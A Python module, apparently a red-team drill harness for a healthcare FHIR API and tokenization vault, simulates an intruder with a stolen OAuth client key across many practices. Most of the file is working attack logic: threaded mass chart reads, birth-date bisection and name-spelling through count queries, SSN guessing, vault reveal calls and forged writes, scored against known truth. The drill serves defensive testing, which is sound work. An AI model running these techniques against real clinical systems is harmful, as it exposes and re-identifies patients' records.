"""An attack with a stolen OAuth client that reaches many practices, through the public HTTP API only.

Whoever runs it has the client's private key and the practices' ids, and knows the API. In every practice it
reads, searches, pages, takes whole charts and their histories, bisects birth dates, spells names by counts,
guesses numbers, sorts, sends bundles, writes with conditions, and turns stand-ins back at the vault: with
fresh tokens, on many threads, as fast as it goes. Where nothing new comes out, it goes on to the next
practice. ``loot`` counts what it has learned.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Collection, Iterable, Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from itertools import islice
from queue import Empty, SimpleQueue
from threading import Lock
from typing import Any, Final, Protocol
from urllib.parse import urlencode, urlsplit

from confide.drill.wire import Wire
from confide.protect.elements import Element

SCOPES: Final = "system/*.cruds vault/tokenize vault/detokenize vault/protect vault/reveal"
_FHIR: Final = "application/fhir+json"
_FORM: Final = "application/x-www-form-urlencoded"
_ALPHABET: Final = "abcdefghijklmnopqrstuvwxyz"
_FIRST, _LAST = 1900, 2030
_CHARTS: Final = 2
"""Fewer charts than these are taken resource by resource where nothing comes out any more."""

DRY: Final = 64
"""After so many practices in which nothing new came out, each further one is only tried."""

_ODD: Final = (
    "Patient?_sort=birthdate",
    "Patient?_sort=-name",
    "Patient?_has:Observation:patient:code=1",
    "Patient?_revinclude=Observation:subject",
    "Patient?general-practitioner.name=a",
    "Observation?patient.birthdate=gt1950-01-01",
    "Observation?_include=Observation:subject",
    "Patient?_summary=count&telecom:contains=555",
    "Patient?birthdate:missing=false&_summary=count",
    "Patient?name:contains=a&_elements=name",
    "Patient?_filter=birthdate gt 1950-01-01",
)
Question = Callable[[Any], bool]
"""Of a person as the truth has them: ``given``, ``family``, ``born``, ``ssn``."""


class Notes(Protocol):
    """Knows the truth, and counts what the intruder has of it: a ``Loot`` or a ``Notebook``."""

    def __len__(self) -> int:
        """Of how many people something is known."""

    def read(self, practice: str, text: str) -> None:
        """Look through an answer."""

    def answer(
        self, practice: str, matches: Question, total: int, ids: Collection[str] = (), element: str = ""
    ) -> None:
        """Note the answer to a question about identity, asked by *element*."""


@dataclass
class Spree:
    """What the attack did.

    Attributes:
        requests: Sent, over all threads.
        tokens: Got.
        statuses: How often each status of HTTP was the answer.
        fruitful: Practices in which something new came out.
    """

    requests: int = 0
    tokens: int = 0
    statuses: dict[int, int] = field(default_factory=dict)
    fruitful: int = 0


class Intruder:
    """Somebody with a stolen private key.

    Args:
        address: Where the server answers.
        client: The client's id.
        key: Its private key, a JWK.
        loot: Where what it has is noted.
        seed: Of what is guessed.
    """

    def __init__(self, address: str, client: str, key: Mapping[str, Any], loot: Notes, seed: int = 1) -> None:
        self._address, self._client, self._key, self._loot = address, client, key, loot
        self._seed = seed
        self.spree = Spree()
        self._dry = 0
        self._lock = Lock()

    def rob(
        self, practices: Sequence[str], threads: int = 8, tokens: int = 2, questions: int = 1000
    ) -> Spree:
        """Take what there is in all practices.

        Args:
            practices: Their ids.
            threads: At once, each with a connection and tokens of its own.
            tokens: Fresh ones in each practice.
            questions: About identity, one by one, in each practice at most; with 26 more in a bundle.
        """
        queue: SimpleQueue[str] = SimpleQueue()
        for practice in practices:
            queue.put(practice)
        with ThreadPoolExecutor(threads, thread_name_prefix="intruder") as pool:
            work = [pool.submit(self._work, queue, tokens, questions, each) for each in range(threads)]
            for done in work:
                done.result()
        return self.spree

    def _work(self, queue: SimpleQueue[str], tokens: int, questions: int, number: int) -> None:
        wire = Wire(self._address)
        try:
            while True:
                try:
                    practice = queue.get_nowait()
                except Empty:
                    return
                before = len(self._loot)
                got = [wire.ask_token(self._client, self._key, SCOPES, practice) for _ in range(tokens)]
                held = [token for token in got if token]
                with self._lock:
                    self.spree.requests += tokens
                    self.spree.tokens += len(held)
                if held:
                    dice = random.Random(f"{self._seed}/{number}/{practice}")
                    visit = _Visit(self, wire, practice, held, dice, questions)
                    if self._dry < DRY:
                        visit.take()
                    else:
                        visit.try_again()
                with self._lock:
                    fruitful = len(self._loot) > before
                    self.spree.fruitful += fruitful
                    self._dry = 0 if fruitful else self._dry + 1
        finally:
            wire.close()

    def note(self, practice: str, status: int, text: str) -> None:
        """Count a request, and look through its answer."""
        with self._lock:
            self.spree.requests += 1
            self.spree.statuses[status] = self.spree.statuses.get(status, 0) + 1
        self._loot.read(practice, text)

    def learn(
        self, practice: str, question: Question, total: int, ids: Iterable[str], element: Element
    ) -> None:
        """Note the answer to a question about identity."""
        self._loot.answer(practice, question, total, frozenset(ids), element.value)


class _Visit:
    """What is done in one practice."""

    def __init__(
        self,
        intruder: Intruder,
        wire: Wire,
        practice: str,
        tokens: list[str],
        dice: random.Random,
        questions: int,
    ) -> None:
        self._intruder, self._wire, self._practice = intruder, wire, practice
        self._tokens, self._dice, self._left = tokens, dice, questions

    def take(self) -> None:
        """Do everything, as long as something comes out; in every other practice asking comes first."""
        whole = True
        if self._dice.random() < 0.5:
            whole = self._ask()
        people = list(self._pages())
        ids = [str(each["id"]) for each in people]
        self._batch(ids)
        self._vault(people)
        whole = whole and self._ask()
        for id_ in ids if whole else ids[: self._dice.randrange(_CHARTS)]:
            self._chart(id_)
        self._guess()
        odd = _ODD if whole else [self._dice.choice(_ODD)]
        for question in odd:
            path, _, query = question.partition("?")
            self._fhir("GET", f"{path}?{urlencode(_pairs(query))}")
        self._write(people[: 1 if whole else self._dice.randrange(2)])

    def try_again(self) -> None:
        """See whether anything comes out again: a page, its people in a bundle, a count, a guess."""
        people = list(islice(self._pages(), 20))
        self._batch([str(each["id"]) for each in people])
        self._vault(people)
        self._count(f"birthdate=ge{_FIRST}-01-01", lambda _: True, Element.BIRTH_DATE)
        self._guess()

    # Reading

    def _pages(self) -> Iterator[dict[str, Any]]:
        path = "Patient?_count=20"
        while path:
            _, bundle = self._fhir("GET", path)
            for entry in bundle.get("entry", ()):
                if entry.get("resource", {}).get("resourceType") == "Patient":
                    yield entry["resource"]
            links = [link["url"] for link in bundle.get("link", ()) if link["relation"] == "next"]
            parts = urlsplit(links[0]) if links else None
            path = f"{parts.path.rsplit('/', 1)[-1]}?{parts.query}" if parts else ""

    def _chart(self, id_: str) -> None:
        for path in (f"Patient/{id_}", f"Patient/{id_}/_history", f"Patient/{id_}/_history/1"):
            self._fhir("GET", path)
        self._fhir("GET", f"Patient/{id_}/$everything")
        self._fhir("GET", f"Observation?patient={id_}&date=gt1990-01-01&_sort=date")

    def _batch(self, ids: Sequence[str]) -> None:
        """Everything at once: reads, and a count for each letter that a name may begin with."""
        urls = [f"Patient/{id_}" for id_ in ids]
        asked = [f"Patient?family={letter}&_summary=count" for letter in _ALPHABET]
        entries = [{"request": {"method": "GET", "url": url}} for url in urls + asked]
        _, bundle = self._fhir("POST", "", {"resourceType": "Bundle", "type": "batch", "entry": entries})
        answers = bundle.get("entry", [])
        for letter, answer in zip(_ALPHABET, answers[len(urls) :], strict=False):
            self._note_answer(answer.get("resource") or {}, _begins(letter), Element.NAME)

    # Asking

    def _ask(self) -> bool:
        """Find out when people are born and what they are called; False where nothing comes out."""
        if not self._count(f"birthdate=ge{_FIRST}-01-01", lambda _: True, Element.BIRTH_DATE):
            return False
        self._bisect(_FIRST * 12, _LAST * 12)
        for letter in _ALPHABET:
            self._spell(letter)
        return True

    def _count(self, query: str, question: Question, element: Element) -> int:
        """How many match. Now and then they are asked for by name as well."""
        if not self._left:
            return 0
        self._left -= 1
        form = query if self._dice.random() < 0.3 else f"{query}&_summary=count"
        _, bundle = self._fhir("POST", "Patient/_search", form)
        return self._note_answer(bundle, question, element)

    def _note_answer(self, bundle: Mapping[str, Any], question: Question, element: Element) -> int:
        total = bundle.get("total")
        total = total if isinstance(total, int) else 0
        resources = [entry.get("resource", {}) for entry in bundle.get("entry", ())]
        ids = [str(each["id"]) for each in resources if each.get("resourceType") == "Patient"]
        self._intruder.learn(self._practice, question, total, ids, element)
        return total

    def _bisect(self, low: int, high: int) -> None:
        """Halve the months in which somebody is born, and then name the day."""
        begin, end = _month(low), _month(high)
        query = f"birthdate=ge{begin}&birthdate=lt{end}"
        found = self._count(query, _born(begin, end), Element.BIRTH_DATE)
        if not found:
            return
        if high - low > 1:
            middle = (low + high) // 2
            self._bisect(low, middle)
            self._bisect(middle, high)
            return
        for first, after in ((1, 11), (11, 21), (21, 32)):
            since, until = f"{begin[:8]}{first:02}", f"{begin[:8]}{after:02}" if after < 32 else end
            query = f"birthdate=ge{since}&birthdate=lt{until}"
            self._count(query, _born(since, until), Element.BIRTH_DATE)

    def _spell(self, begun: str) -> None:
        """Add letters to a name as long as somebody is called so."""
        if self._count(f"family={begun}", _begins(begun), Element.NAME) and len(begun) < 3:
            for letter in _ALPHABET:
                self._spell(begun + letter)

    def _guess(self) -> None:
        area, group, serial = (self._dice.randrange(*ends) for ends in ((100, 600), (11, 91), (10**4,)))
        number = f"{area}-{group}-{serial:04}"
        query = urlencode({"identifier": f"http://hl7.org/fhir/sid/us-ssn|{number}"})
        self._count(query, lambda p: p.ssn == number, Element.SSN)

    # Writing, and the vault

    def _write(self, people: Iterable[Mapping[str, Any]]) -> None:
        for each in people:
            self._fhir("PUT", f"Patient/{each['id']}", each, {"If-Match": 'W/"1"'})
            self._fhir("PATCH", f"Patient/{each['id']}", [{"op": "test", "path": "/gender", "value": "male"}])
            self._fhir("POST", "Patient", {"resourceType": "Patient"}, {"If-None-Exist": "family=a"})
            self._fhir("POST", "Patient/$match", {"resourceType": "Parameters"})
            # A reason made by oneself: an appointment of today, and then the chart once more.
            self._fhir("POST", "Appointment", _appointment(str(each["id"])))
            self._fhir("GET", f"Patient/{each['id']}/$everything")

    def _vault(self, people: Sequence[Mapping[str, Any]]) -> None:
        covered, guessed = [], []
        for each in people:
            for identifier in each.get("identifier", ()):
                value = identifier.get("value")
                if value:
                    item = {"patient": each["id"], "element": "ssn"}
                    covered.append({**item, "stand_in": value, "alphabet": "10"})
                    guessed.append({**item, "value": "123-45-6789"})
        for operation, items in (("reveal", covered), ("protect", guessed)):
            status, text = self._send(
                "POST", f"/vault/{operation}", json.dumps({"items": items}).encode(), "application/json"
            )
            self._intruder.note(self._practice, status, text)

    # Sending

    def _fhir(
        self, method: str, path: str, body: Any = None, headers: Mapping[str, str] | None = None
    ) -> tuple[int, dict[str, Any]]:
        kind = _FORM if isinstance(body, str) else _FHIR
        raw = body.encode() if isinstance(body, str) else None if body is None else json.dumps(body).encode()
        status, text = self._send(method, f"/fhir/R4/{path}" if path else "/fhir/R4", raw, kind, headers)
        self._intruder.note(self._practice, status, text)
        try:
            answer = json.loads(text)
        except ValueError:
            return status, {}
        return status, answer if isinstance(answer, dict) and status == 200 else {}

    def _send(
        self, method: str, path: str, raw: bytes | None, kind: str, headers: Mapping[str, str] | None = None
    ) -> tuple[int, str]:
        written = {"Authorization": f"Bearer {self._dice.choice(self._tokens)}", "Content-Type": kind}
        return self._wire.send(method, path, raw, written | dict(headers or {}))


def _appointment(patient: str) -> dict[str, Any]:
    start = datetime.now(UTC).replace(microsecond=0)
    return {
        "resourceType": "Appointment",
        "status": "booked",
        "start": start.isoformat(),
        "end": (start + timedelta(minutes=20)).isoformat(),
        "participant": [{"actor": {"reference": f"Patient/{patient}"}, "status": "accepted"}],
    }


def _begins(prefix: str) -> Question:
    return lambda p: p.family.lower().startswith(prefix)


def _born(since: str, until: str) -> Question:
    return lambda p: since <= p.born < until


def _month(number: int) -> str:
    return f"{number // 12:04}-{number % 12 + 1:02}-01"


def _pairs(query: str) -> list[tuple[str, str]]:
    return [(name, value) for name, _, value in (part.partition("=") for part in query.split("&"))]
